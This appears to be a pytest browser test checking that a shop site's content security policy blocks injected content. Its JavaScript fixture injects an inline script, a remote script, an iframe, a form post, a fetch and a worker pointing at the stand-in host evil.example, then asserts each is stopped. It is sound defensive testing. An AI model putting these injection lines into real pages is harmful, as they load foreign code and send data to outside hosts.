"""The content security policy: what is not ours does not run, and nothing is sent elsewhere."""

import pytest

from tests.browser.shop import Shop

pytestmark = [pytest.mark.browser, pytest.mark.live]

INTRUDE = """() => {
  window.stopped = new Set();
  addEventListener("securitypolicyviolation", (event) => stopped.add(event.effectiveDirective));
  const add = (name, values) => {
    const node = Object.assign(document.createElement(name), values);
    document.body.append(node);
    return node;
  };
  add("script", { textContent: "window.intruded = true" });
  add("script", { src: "http://evil.example/jquery.js" });
  add("style", { textContent: "body { display: none }" });
  add("img", { src: "http://evil.example/pixel" });
  add("iframe", { src: "http://evil.example/" });
  add("form", { action: "http://evil.example/", method: "post" }).submit();
  fetch("http://evil.example/").catch(() => {});
  new Worker(URL.createObjectURL(new Blob(["importScripts('http://evil.example/')"])));
}"""
STOPPED = {
    "script-src-elem",
    "worker-src",
    "style-src-elem",
    "img-src",
    "frame-src",
    "form-action",
    "connect-src",
}


def test_an_intruder_gets_nowhere(shop: Shop, complaints: list[str]) -> None:
    shop.page.evaluate(INTRUDE)
    shop.page.wait_for_function("(most) => stopped.size >= most", arg=len(STOPPED))
    assert set(shop.page.evaluate("[...stopped]")) == STOPPED
    assert shop.page.evaluate("window.intruded") is None
    assert shop.page.url == f"{shop.live.url}/"
    assert [text for text in complaints if "Content Security Policy" not in text] == []
    complaints.clear()
